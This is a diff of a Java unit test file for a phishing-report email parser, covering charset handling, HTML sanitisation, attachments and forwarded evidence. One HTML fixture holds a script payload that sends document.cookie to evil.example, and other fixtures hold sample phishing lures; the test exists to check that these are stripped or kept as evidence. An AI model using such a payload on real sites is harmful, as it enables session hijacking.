@@ -4,7 +4,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
-import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
 import java.util.Properties;
@@ -47,21 +46,6 @@ class ReportParserBasicsTest {
     }
 
     @Test
-    void mislabelledEucJpBodyIsStillReadable() {
-        String text = "不審なメールの添付ファイルを開いてしまいました。";
-        byte[] raw = concat(("From: sato@example.jp\r\nSubject: report\r\nMIME-Version: 1.0\r\n"
-                        + "Content-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n\r\n")
-                        .getBytes(StandardCharsets.US_ASCII),
-                text.getBytes(Charset.forName("EUC-JP")));
-
-        ParsedReport report = RawMail.parse(raw);
-
-        assertThat(report.bodyText()).isEqualTo(text);
-        assertThat(report.warnings()).anySatisfy(warning ->
-                assertThat(warning).contains("ISO-2022-JP").contains("EUC-JP"));
-    }
-
-    @Test
     void undeclaredUtf8BodyIsReadAsUtf8WithAWarning() {
         byte[] raw = ("From: a@example.org\r\nSubject: x\r\n\r\nGrüße – 報告").getBytes(StandardCharsets.UTF_8);
 
@@ -80,18 +64,19 @@ class ReportParserBasicsTest {
                 <!-- tracking comment -->
                 <p>Tom &quot;the victim&quot; &#39;lost&#39; &#x20AC;100&nbsp;today &AMP; 1 &lt; 2.</p><br>
                 <SCRIPT>document.location='http://evil.example/?'+document.cookie</SCRIPT >
-                <div>Unknown &bogus; entity and a huge &#99999999999; one stay as written.</div>
+                <div>Unknown &bogus; entity stays as written, an out-of-range &#99999999999; one is replaced.</div>
                 </body></html>""";
         ParsedReport report = RawMail.from("alice@victim.example")
                 .header("Content-Type", "text/html; charset=UTF-8").body(html).parse();
 
         assertThat(report.bodyText())
-                .contains("Phishing at phish.example & its mirror")
+                .contains("Phishing at phish.example <http://phish.example/> & its mirror")
                 .contains("Tom \"the victim\" 'lost' €100 today & 1 < 2.")
-                .contains("Unknown &bogus; entity and a huge &#99999999999; one stay as written.")
+                .contains("Unknown &bogus; entity stays as written, an out-of-range \uFFFD one is replaced.")
                 .doesNotContain("alert", "owned", "color: red", "tracking comment", "document", "Secure Bank",
                         "&amp;", "&quot;", "&nbsp;")
-                .doesNotContainPattern("<\\s*/?\\s*[A-Za-z!]");
+                .as("no markup, only a link's target in angle brackets")
+                .doesNotContainPattern("<(?!http://phish\\.example/>)\\s*/?\\s*[A-Za-z!]");
     }
 
     @Test
@@ -137,7 +122,7 @@ class ReportParserBasicsTest {
     }
 
     @Test
-    void htmlAttachmentNextToPlainTextDoesNotDuplicateTheText() {
+    void htmlPartNextToPlainTextDoesNotDuplicateTheTextButIsKeptAsAnAttachment() {
         String body = """
                 --mix
                 Content-Type: text/plain; charset=UTF-8
@@ -153,10 +138,14 @@ class ReportParserBasicsTest {
                 .header("Content-Type", "multipart/mixed; boundary=mix").body(body).parse();
 
         assertThat(report.bodyText()).isEqualTo("See the page below.");
+        assertThat(report.attachments()).containsExactly("text/html");
+        assertThat(report.details().attachments()).singleElement()
+                .satisfies(page -> assertThat(page.text()).isEqualTo("Saved copy of the phishing page"));
+        assertThat(report.searchableText()).contains("Saved copy of the phishing page");
     }
 
     @Test
-    void forwardedMessageTextAndHeadersAreIncluded() {
+    void forwardedMessageIsEvidenceWithDecodedSubjectAndTheSendersDisplayName() {
         String body = """
                 --fwd
                 Content-Type: text/plain; charset=UTF-8
@@ -177,14 +166,16 @@ class ReportParserBasicsTest {
         ParsedReport report = RawMail.from("alice@victim.example")
                 .header("Content-Type", "multipart/mixed; boundary=fwd").body(body).parse();
 
-        assertThat(report.bodyText()).isEqualTo("""
-                Forwarding the phishing mail our staff received.
-
-                ---------- Forwarded message ----------
-                From: Bank Support <support@phish.example>
-                Subject: Your account is locked – verify now
-
-                Click hxxp://phish.example/verify to unlock your account.""");
+        assertThat(report.bodyText()).isEqualTo("Forwarding the phishing mail our staff received.");
+        assertThat(report.details().evidence()).singleElement().satisfies(forwarded -> {
+            assertThat(forwarded.from()).as("the display name is often the lie, so it is kept")
+                    .isEqualTo("Bank Support <support@phish.example>");
+            assertThat(forwarded.subject()).isEqualTo("Your account is locked – verify now");
+            assertThat(forwarded.messageId()).isEqualTo("phish-1@phish.example");
+            assertThat(forwarded.bodyText()).isEqualTo("Click hxxp://phish.example/verify to unlock your account.");
+        });
+        assertThat(report.searchableText()).contains("From: Bank Support <support@phish.example>",
+                "Subject: Your account is locked – verify now", "hxxp://phish.example/verify");
         assertThat(report.messageId()).as("the outer message's ID, not the forwarded one")
                 .isEqualTo("report-1@victim.example");
         assertThat(report.attachments()).isEmpty();
@@ -302,12 +293,5 @@ class ReportParserBasicsTest {
         assertThat(report.fromAddress()).isNull();
         assertThat(report.sender()).isEqualTo("(unknown sender)");
         assertThat(report.warnings()).contains("No readable From address");
-    }
-
-    private static byte[] concat(byte[] head, byte[] tail) {
-        byte[] all = new byte[head.length + tail.length];
-        System.arraycopy(head, 0, all, 0, head.length);
-        System.arraycopy(tail, 0, all, head.length, tail.length);
-        return all;
     }
 }
